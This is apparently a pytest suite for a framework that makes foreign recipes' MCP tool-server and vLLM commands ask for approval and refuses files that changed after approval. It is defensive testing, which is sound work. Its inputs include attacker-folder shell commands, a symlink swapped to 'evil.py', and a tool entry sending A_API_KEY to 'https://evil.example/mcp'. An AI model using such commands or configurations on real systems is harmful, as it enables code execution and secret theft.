"""Tool servers of a foreign recipe need approval, with every file that their command names."""

import asyncio
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from support.tiny_words import save_tiny
from support.trust import Attacker, own_server, recipe_with

from collab.errors import CollabError, RecipeError, ToolUnavailable, Untrusted
from collab.models.vllm.backend import Capacity
from collab.models.vllm.own_server import OwnServer
from collab.recipe import load_recipe
from collab.recipe.hosted import MCPServer
from collab.recipe.model import VLLMSpec
from collab.tools import ToolServers
from collab.trust import commands

COMMANDS = {
    "a script": (["sh", "F/a.sh"], "a.sh"),
    "a script that is new": (["sh", "F/late.sh"], "late.sh"),
    "in a folder": (["sh", "-c", "cd F && sh inner.sh"], "inner.sh"),
    "in a text": (["sh", "-c", ". F/a.sh"], "a.sh"),
    "behind an equals sign": (["env", "ENV=F/a.sh", "sh", "-i", "-c", "true"], "a.sh"),
    "the program itself": (["F/program"], "program"),
    "a folder as a program": (["python", "F/tool"], "tool/__main__.py"),
    "a module of a folder": (["python", "F/tool"], "tool/inner.py"),
    "a server's package": (["python", "F/server.py"], "kit/deep.py"),
    "behind an attached option": (["env", "-SF/a.sh"], "a.sh"),
    "with a blank in its name": (["sh", "-c", "sh 'F/my kit/a.sh'"], "my kit/a.sh"),
    "below two folders": (["sh", "-c", "cd F && cd kit && sh inner.sh"], "kit/inner.sh"),
    "a folder up": (["sh", "-c", "cd F/kit && sh ../a.sh"], "a.sh"),
    "in the home folder": (["sh", "-c", "sh ~/a.sh"], "a.sh"),
    "a program behind a link": (["link/../a.sh"], "a.sh"),
    "with a dollar in its name": (["sh", "F/run$USER.sh"], "run$USER.sh"),
    "a value with a blank": (["env", "ENV=F/my kit/a.sh", "sh", "-i"], "my kit/a.sh"),
    "before an operator": (["sh", "-c", "cd 'F/my kit'; sh a.sh"], "my kit/a.sh"),
    "by another Python": (["env", "python3", "F/server.py"], "server.py"),
    "behind a variable": (["sh", "-c", "sh $HOME/a.sh"], "a.sh"),
    "in quotes within quotes": (["sh", "-c", "sh -c \"sh 'F/a.sh'\""], "a.sh"),
}
"""Commands, each with a file that it runs; F stands for the attacker's folder."""


@pytest.fixture
def scripts(attacker: Attacker, project: Path, monkeypatch: pytest.MonkeyPatch) -> Attacker:
    """The attacker, with harmless files for all `COMMANDS`."""
    monkeypatch.setenv("HOME", str(attacker.folder))
    for script in ("inner.sh", "a.sh", "my kit/a.sh", "kit/inner.sh", "run$USER.sh", "program"):
        attacker.write(script, "#!/bin/sh\n").chmod(0o755)
    (project / "link").symlink_to(attacker.folder / "kit")
    attacker.write("tool/__main__.py", "import inner\n")
    attacker.write("tool/inner.py")
    attacker.write("kit/__init__.py")
    attacker.write("kit/deep.py")
    attacker.write("server.py", "import kit.deep\n")
    return attacker


def refuses(server: MCPServer) -> None:
    with pytest.raises(Untrusted, match="or a file that it names, has changed since you approved"):
        asyncio.run(ToolServers().tools(server))


@pytest.mark.parametrize("name", COMMANDS)
def test_command_does_not_run_changed_files(scripts: Attacker, name: str) -> None:
    command, changed = COMMANDS[name]
    server = scripts.served(*command)
    load_recipe(str(scripts.folder))
    is_python = changed.endswith(".py")
    scripts.write(changed, scripts.mark if is_python else f"#!/bin/sh\ntouch {scripts.marker}\n")
    with pytest.raises(Untrusted, match="run the command"):
        load_recipe(str(scripts.folder))
    refuses(server)
    assert not scripts.marker.exists()


@pytest.mark.parametrize("name", COMMANDS)
def test_own_command_with_a_foreign_file_needs_approval(scripts: Attacker, name: str) -> None:
    scripts.write("late.sh")
    words = [word.replace("F", str(scripts.folder)) for word in COMMANDS[name][0]]
    with pytest.raises(Untrusted, match=rf", which names .*{scripts.folder}/.* \(mcp; asked every"):
        own_server(*words)
    own_server(*words, trust=True)


def test_other_words_or_variables_need_approval(attacker: Attacker, project: Path) -> None:
    script = str(attacker.write("a.sh"))
    own_server("sh", script, trust=True)
    own_server("sh", script)
    for word, variables in (("more", []), ("", ["HOME"])):
        with pytest.raises(Untrusted, match="run the command"):
            own_server("sh", script, *word.split(), environment=variables)


def test_own_program_given_by_a_relative_path_needs_approval(
    attacker: Attacker, project: Path
) -> None:
    attacker.write("run.sh", "#!/bin/sh\n").chmod(0o755)
    (project / "link").symlink_to(attacker.folder / "run.sh")
    for command in ("./link", os.path.relpath(attacker.folder / "run.sh")):
        with pytest.raises(Untrusted, match=rf"which names {attacker.folder}/run\.sh "):
            own_server(command)


def test_own_command_with_a_foreign_folder_needs_no_approval(project: Path) -> None:
    (project / "server.py").write_text("")
    own_server("env", "TMPDIR=/tmp", "python", "server.py")


def test_server_starts_while_its_files_are_unchanged(attacker: Attacker) -> None:
    attacker.write("helper.py", attacker.mark)
    attacker.write("server.py", "import helper\n")
    server = attacker.served("python", "F/server.py")
    attacker.write("log.txt")  # beside them, and not named
    for _ in range(2):
        with pytest.raises(ToolUnavailable):  # it runs but is not an MCP server
            asyncio.run(ToolServers().tools(server))
    assert attacker.marker.exists()
    (attacker.folder / "helper.py").rename(attacker.folder / "other.py")
    refuses(server)


@pytest.mark.parametrize("start", [["python", "-u"], ["python", "-E"], ["env", sys.executable]])
def test_server_imports_no_old_bytecode(attacker: Attacker, start: list[str]) -> None:
    attacker.write("helper.py")
    attacker.write("server.py", "import helper\n")
    attacker.compiled("helper.py", "cache")
    server = attacker.served(*start, "F/server.py")
    with pytest.raises(ToolUnavailable):
        asyncio.run(ToolServers().tools(server))
    assert not attacker.marker.exists()


def test_command_needs_approval_in_every_process(
    attacker: Attacker, monkeypatch: pytest.MonkeyPatch
) -> None:
    attacker.served("sh", "F/a.sh")
    attacker.served("sh", "F/a.sh", trust=False)
    load = ["-m", "collab", "run", str(attacker.folder), "--dry-run"]
    child = subprocess.run([sys.executable, *load], capture_output=True, text=True, check=False)
    assert child.returncode == 0, child.stderr  # child processes inherit the approval
    monkeypatch.delenv("COLLAB_APPROVED")
    with pytest.raises(Untrusted, match="asked every time, since it may run other files as well"):
        attacker.served("sh", "F/a.sh", trust=False)


def test_kernel_files_are_not_read(attacker: Attacker) -> None:
    attacker.write("a.sh")
    (attacker.folder / "link").symlink_to("/proc/kmsg")
    (attacker.folder / "folder").symlink_to("/proc/self")
    attacker.served("sh", "/proc/kmsg", "/proc/self", "/sys", "F/a.sh")


def test_variables_that_are_named_twice_are_checked_once(attacker: Attacker) -> None:
    attacker.write("a.sh", "true\n")
    command = ["sh", f"{attacker.folder}/a.sh"]
    tool = {"mcp": command, "environment": ["PATH", "PATH"]}
    attacker.write("recipe.yaml", recipe_with(agents={"a": {"prompt": "p", "tools": [tool]}}))
    server = load_recipe(str(attacker.folder), trust=True).team.agents["a"].tools[0]
    assert isinstance(server, MCPServer)
    attacker.write("a.sh", f"touch {attacker.marker}\n")
    refuses(server)
    assert not attacker.marker.exists()


def test_arguments_that_are_not_paths_are_accepted(attacker: Attacker) -> None:
    (attacker.folder / "loop").symlink_to("loop")
    attacker.served("sh", "F/loop", "x" * 5000)


@pytest.mark.parametrize("word", ["F", "F/a F/b F/c"])
def test_commands_with_too_many_paths_are_refused(
    attacker: Attacker, monkeypatch: pytest.MonkeyPatch, word: str
) -> None:
    monkeypatch.setattr(commands, "MAX_PATHS", 3)
    for name in "abc":
        attacker.write(f"{name}/a.sh")
    with pytest.raises(RecipeError, match="names more than 3 paths, too many to look for files"):
        attacker.served("ls", word)


def test_redirected_link_to_a_server_is_not_followed(attacker: Attacker, project: Path) -> None:
    good = attacker.write("good.py")
    (project / "server.py").symlink_to(good)
    server = own_server("python", "./server.py", trust=True)
    (project / "server.py").unlink()
    (project / "server.py").symlink_to(attacker.write("evil.py", attacker.mark))
    with pytest.raises(CollabError):
        asyncio.run(ToolServers().tools(server))
    assert not attacker.marker.exists()


def test_foreign_folder_in_the_current_one_is_checked(attacker: Attacker, project: Path) -> None:
    below = Attacker(project / "theirs", attacker.marker)
    below.write("words.jsonl", '{"word": "w0"}\n')
    below.write("server.py")
    server = below.served("python", "F/server.py")
    below.write("server.py", below.mark)
    refuses(server)
    assert not below.marker.exists()


SERVER = """\
name: theirs
model: echo
task: {{kind: text, source: {{path: words.jsonl}}, reward: {{parts: {{n: {{use: contains,
  options: {{phrases: [x]}}}}}}}}}}
team:
  agents:
    a:
      prompt: p
      tools: [{tool}]
"""


@pytest.mark.parametrize(
    ("tool", "message"),
    [
        ("{mcp: [sh, -c, 'touch ran'], environment: [SECRET]}", "sh -c 'touch ran' with SECRET"),
        ("{mcp: 'https://evil.example/mcp', key: A_API_KEY}", "send A_API_KEY to the MCP server"),
    ],
)
def test_tool_server_needs_approval(project: Path, evil: Path, tool: str, message: str) -> None:
    (evil / "recipe.yaml").write_text(SERVER.format(tool=tool))
    with pytest.raises(Untrusted, match=message.replace("(", r"\(")):
        load_recipe(str(evil / "recipe.yaml"))
    load_recipe(str(evil / "recipe.yaml"), trust=True)
    load_recipe(str(evil / "recipe.yaml"))


def test_typed_command_needs_no_approval(project: Path, evil: Path) -> None:
    command = ("python", str(evil / "evil.py"))
    with pytest.raises(Untrusted, match=r"evil\.py"):
        own_server(*command)
    (project / "own.yaml").write_text("agents:\n  a: {prompt: p}\n")
    load_recipe("own.yaml", settings=[f"agents.a.tools={json.dumps([{'mcp': command}])}"])


def test_command_of_a_vllm_server_needs_approval(project: Path, evil: Path, tmp_path: Path) -> None:
    file = evil / "recipe.yaml"
    command = f"[sh, {evil / 'evil.py'}]"
    text = SERVER.replace("model: echo", "model: {{engine: vllm, name: m, server_command: {tool}}}")
    text = text.replace("      tools: [{tool}]\n", "")
    file.write_text(text.format(tool=command))
    with pytest.raises(Untrusted, match=r"run the command sh .*server_command"):
        load_recipe(str(file))
    model = save_tiny(tmp_path / "model", ["yes"])
    spec = VLLMSpec(name=str(model), server_command=("sh", str(evil / "evil.py")))
    with pytest.raises(Untrusted, match="server_command"):
        OwnServer(spec, Capacity(), project / "log")
    load_recipe(str(file), trust=True)
    with (evil / "evil.py").open("a") as script:
        script.write("# changed")
    with pytest.raises(Untrusted, match="changed"):
        OwnServer(spec, Capacity(), project / "log")
